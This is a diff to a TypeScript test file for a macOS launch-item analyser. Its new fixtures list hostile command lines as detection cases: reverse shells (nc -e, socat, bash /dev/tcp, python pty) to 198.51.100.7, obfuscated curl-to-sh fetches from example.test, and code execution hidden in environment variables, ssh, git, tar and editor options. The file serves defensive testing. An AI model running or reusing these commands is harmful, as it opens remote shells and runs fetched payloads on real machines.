@@ -300,7 +300,10 @@ const malware: readonly [string, RunnableItem, Expected][] = [
   [
     'xargs and a file',
     { args: ['sh', '-c', 'echo /tmp/y | xargs -n 1 /bin/zsh'] },
-    { paths: ['/usr/bin/xargs', '/bin/zsh'], reasons: [oneLiner, 'wrapped-program'] },
+    {
+      paths: ['/usr/bin/xargs', '/bin/zsh', '/private/tmp/y'],
+      reasons: [oneLiner, 'wrapped-program', 'program-in-tmp'],
+    },
   ],
   [
     'launchctl asuser',
@@ -542,5 +545,240 @@ describe('what a launch item runs', () => {
     whatRuns({ args, itemPath: agent });
     // The worst of them takes some tens of milliseconds; a bound that is missing takes minutes.
     expect(process.cpuUsage().user - started).toBeLessThan(5e6);
+  });
+});
+
+const env = (name: string, value: string) => ({
+  args: ['/usr/local/bin/tool'],
+  environment: new Map([[name, value]]),
+});
+const carried: readonly RunReason[] = [oneLiner, 'wrapped-program', 'program-in-tmp'];
+const fetched: readonly RunReason[] = [oneLiner, 'network-download', 'remote-script'];
+const sh = (text: string) => ({ args: ['sh', '-c', text] });
+
+/** Ways of making something run that is not the program of the list. */
+const byOtherMeans: readonly [string, RunnableItem, Expected][] = [
+  ...(
+    [
+      ['BASH_ENV', '/tmp/x'],
+      ['ENV', '/tmp/x'],
+      ['ZDOTDIR', '/tmp/x'],
+      ['PYTHONSTARTUP', '/tmp/x'],
+      ['RUBYOPT', '-r/tmp/x'],
+      ['NODE_OPTIONS', '--max-old-space-size=99 --require /tmp/x'],
+      ['NODE_OPTIONS', '--import=/tmp/x'],
+      ['JAVA_TOOL_OPTIONS', '-javaagent:/tmp/x'],
+      ['LUA_INIT', '@/tmp/x'],
+      ['GIT_SSH_COMMAND', '/tmp/x'],
+    ] as const
+  ).map(([name, value]): [string, RunnableItem, Expected] => [
+    `${name}=${value}`,
+    env(name, value),
+    { paths: ['/private/tmp/x'], reasons: ['environment-runs-code', 'program-in-tmp'] },
+  ]),
+  ...(['PYTHONPATH', 'PERL5LIB', 'RUBYLIB', 'NODE_PATH'] as const).map(
+    (name): [string, RunnableItem, Expected] => [
+      name,
+      env(name, '/tmp/x:/usr/lib/x'),
+      { paths: ['/private/tmp/x'], reasons: ['environment-adds-code', 'program-in-tmp'] },
+    ],
+  ),
+  ['PERL5OPT', env('PERL5OPT', '-Mevil'), { reasons: ['environment-runs-code'] }],
+  [
+    'a substitution in BASH_ENV',
+    env('BASH_ENV', '$(curl http://example.test/x | sh)'),
+    { reasons: ['environment-runs-code', 'network-download', 'remote-script'] },
+  ],
+  [
+    'DYLD_INSERT_LIBRARIES by env',
+    { args: ['env', 'DYLD_INSERT_LIBRARIES=/tmp/x', '/opt/tool'] },
+    { paths: ['/private/tmp/x'], reasons: ['wrapped-program', 'dyld-environment', 'program-in-tmp'] },
+  ],
+  [
+    'BASH_ENV exported by a shell',
+    sh('export BASH_ENV=/tmp/x; bash /opt/x.sh'),
+    { paths: ['/private/tmp/x'], reasons: [oneLiner, 'environment-runs-code', 'program-in-tmp'] },
+  ],
+  ...(
+    [
+      ['ssh', '-o', 'ProxyCommand=/tmp/x', 'host'],
+      ['ssh', '-oProxyCommand=/tmp/x', 'host'],
+      ['ssh', '-o', 'proxycommand /tmp/x', 'host'],
+      ['ssh', 'host', '-o', 'PermitLocalCommand=yes', '-o', 'LocalCommand=/tmp/x'],
+      ['scp', '-S', '/tmp/x', 'a', 'b:'],
+      ['rsync', '-a', '-e', '/tmp/x', 'a', 'b:'],
+      ['git', '-c', 'core.fsmonitor=/tmp/x', 'status'],
+      ['git', '-c', 'core.sshCommand=/tmp/x', 'fetch'],
+      ['git', '-c', 'alias.x=!/tmp/x', 'x'],
+      ['git', 'clone', 'ext::/tmp/x'],
+      ['git', 'clone', '--upload-pack=/tmp/x', 'a'],
+      ['vim', '-c', ':!/tmp/x'],
+      ['vim', '+!/tmp/x'],
+      ['nvim', '--cmd', 'silent !/tmp/x'],
+      ['sqlite3', ':memory:', '.shell /tmp/x'],
+      ['sqlite3', '-cmd', '.system /tmp/x', ':memory:'],
+      ['sqlite3', ':memory:', '.import |/tmp/x t'],
+      ['lldb', '-o', 'platform shell /tmp/x', '-o', 'quit'],
+      ['lldb', '--batch', '--one-line', 'shell /tmp/x'],
+      ['gdb', '-batch', '-ex', 'shell /tmp/x'],
+      ['tar', 'cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=/tmp/x', 'a'],
+      ['tar', '--to-command=/tmp/x', '-xf', 'a'],
+      ['gtar', '-I', '/tmp/x', '-xf', 'a'],
+      ['zip', 'a', 'b', '-T', '-TT', '/tmp/x'],
+      ['dtrace', '-c', '/tmp/x'],
+      ['emacs', '--batch', '--eval', '(shell-command "/tmp/x")'],
+      ['make', '--eval', 'a:;/tmp/x'],
+    ] as const
+  ).map((args): [string, RunnableItem, Expected] => [
+    args.join(' '),
+    { args },
+    { paths: ['/private/tmp/x'], reasons: carried },
+  ]),
+  ...(
+    [
+      ['installer', '-pkg', '/tmp/x', '-target', '/'],
+      ['vim', '-S', '/tmp/x'],
+      ['lldb', '-s', '/tmp/x'],
+      ['sqlite3', '-init', '/tmp/x'],
+      ['emacs', '--script', '/tmp/x'],
+      ['ssh', '-F', '/tmp/x', 'host'],
+    ] as const
+  ).map((args): [string, RunnableItem, Expected] => [
+    args.join(' '),
+    { args },
+    { path: '/private/tmp/x', reasons: ['wrapped-program', 'program-in-tmp'] },
+  ]),
+  [
+    'make -f',
+    { args: ['make', '-f', '/tmp/x', 'all'] },
+    { path: '/private/tmp/x', reasons: ['program-in-tmp'] },
+  ],
+  [
+    'make in a folder',
+    { args: ['make', '-C', '/tmp/x'] },
+    { path: '/private/tmp/x/Makefile', reasons: ['program-in-tmp'] },
+  ],
+  [
+    'nc -e',
+    { args: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'] },
+    { reasons: [oneLiner, 'wrapped-program', 'remote-shell'] },
+  ],
+  [
+    'socat exec',
+    { args: ['socat', 'tcp:198.51.100.7:4444', 'exec:/bin/sh'] },
+    { reasons: [oneLiner, 'wrapped-program', 'remote-shell'] },
+  ],
+  [
+    'bash -i and /dev/tcp',
+    { args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] },
+    { reasons: [oneLiner, 'network-download', 'remote-shell'] },
+  ],
+  [
+    'a pipe between a shell and nc',
+    sh('mkfifo /opt/f; cat /opt/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /opt/f'),
+    { reasons: [oneLiner, 'remote-shell'] },
+  ],
+  [
+    'a socket of python',
+    {
+      args: [
+        'python3',
+        '-c',
+        'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
+      ],
+    },
+    { reasons: [oneLiner, 'remote-shell'] },
+  ],
+  ...(
+    [
+      "c'u'rl http://example.test/a | sh",
+      'cu\\rl http://example.test/a | s\\h',
+      "$'c\\x75rl' http://example.test/a | sh",
+      '"cu"rl http://example.test/a | sh',
+      'cu$@rl http://example.test/a | sh',
+      'cu$' + '{z}rl http://example.test/a | sh',
+      'a=cu;b=rl;$a$b http://example.test/a | sh',
+      'curl$' + '{IFS}http://example.test/a|sh',
+      '{curl,-s,http://example.test/a} | sh',
+      'echo "curl http://example.test/a | sh" | sh',
+      "printf '\\x63url http://example.test/a | sh' | sudo sh",
+      "sh <<< 'curl http://example.test/a | sh'",
+    ] as const
+  ).map((text): [string, RunnableItem, Expected] => [
+    text,
+    sh(text),
+    { reasons: text.includes('sudo') ? [...fetched, 'wrapped-program'] : fetched },
+  ]),
+  ...(
+    [
+      "echo 'x' | rev | sh",
+      'gunzip -c /opt/a.gz | sh',
+      'gzip -dc /opt/a.gz | bash -s',
+      'xxd -r -p /opt/a | zsh',
+      'openssl enc -a -in /opt/a | sh',
+      'tr a-z n-za-m < /opt/a | python3',
+      'cat /opt/a | base32 -d | perl',
+      'eval "$(rev /opt/a)"',
+      'bash -c "$(gunzip -c /opt/a)"',
+      '. <(gzcat /opt/a)',
+    ] as const
+  ).map((text): [string, RunnableItem, Expected] => [
+    text,
+    sh(text),
+    { reasons: [oneLiner, 'encoded-command'] },
+  ]),
+  [
+    'a pattern for a folder',
+    sh('/t?p/evil'),
+    { path: '/private/tmp/evil', reasons: [oneLiner, 'pattern-program', 'program-in-tmp'] },
+  ],
+  [
+    'a pattern for a script',
+    sh('sh /[t]mp/e*'),
+    { path: '/private/tmp/e*', reasons: [oneLiner, 'pattern-program', 'program-in-tmp'] },
+  ],
+  [
+    'a pattern for a tool',
+    sh('/usr/bin/c?rl http://example.test/a | sh'),
+    { paths: ['/usr/bin/curl'], reasons: [...fetched, 'pattern-program'] },
+  ],
+  ...(['python3', 'perl', 'ruby', 'node', 'osascript', 'php'] as const).map(
+    (program): [string, RunnableItem, Expected] => [
+      `${program} that reads its standard input`,
+      { args: [program], standardIn: '/tmp/in' },
+      { path: '/private/tmp/in', reasons: ['program-in-tmp'] },
+    ],
+  ),
+  [
+    'python with a dash',
+    { args: ['python3', '-'], standardIn: '/tmp/in' },
+    { path: '/private/tmp/in', reasons: ['program-in-tmp'] },
+  ],
+];
+
+describe('what a launch item runs by other means', () => {
+  test.each(byOtherMeans)('%s', (_, item, expected) => {
+    const runs = whatRuns({ itemPath: agent, ...item });
+    if (expected.path !== undefined) expect(runs.path).toBe(expected.path);
+    expect(runs.paths).toEqual(expect.arrayContaining([...(expected.paths ?? [])]));
+    expect([...runs.reasons].sort()).toEqual([...(expected.reasons ?? [])].sort());
+  });
+
+  test.each<[string, RunnableItem, readonly RunReason[]]>([
+    ['a tunnel', { args: ['ssh', '-N', '-L', '1:h:2', '-o', 'ExitOnForwardFailure=yes', 'host'] }, []],
+    ['a backup', { args: ['rsync', '-a', '/a/', '/b/'] }, []],
+    ['an archive', { args: ['tar', '-czf', '/b.tgz', '-C', '/a', '.'] }, []],
+    ['a pull', { args: ['git', '-C', '/opt/repo', 'pull', '--ff-only'] }, []],
+    ['a database', { args: ['sqlite3', '/opt/a.db', 'VACUUM;'] }, []],
+    ['a port that is asked', { args: ['nc', '-z', 'localhost', '22'] }, []],
+    ['a relay', { args: ['socat', 'tcp-listen:1,fork', 'tcp:localhost:2'] }, []],
+    ['memory of node', env('NODE_OPTIONS', '--max-old-space-size=4096'), []],
+    ['a kind of environment', env('ENV', 'production'), []],
+    ['warnings of ruby', env('RUBYOPT', '-W0'), []],
+    ['a word that tr makes', sh('x=$(date | tr -d " "); echo "$x" | awk "{print}"'), [oneLiner]],
+    ['an archive that is unpacked', sh('gunzip -c /opt/a.gz | grep x | python3 /opt/x.py'), [oneLiner]],
+    ['an environment of a shell', sh('eval "$(/usr/libexec/path_helper -s)"; exec /opt/tool'), [oneLiner]],
+  ])('nothing more to say about %s', (_, item, reasons) => {
+    expect(whatRuns({ itemPath: agent, ...item }).reasons).toEqual(reasons);
   });
 });
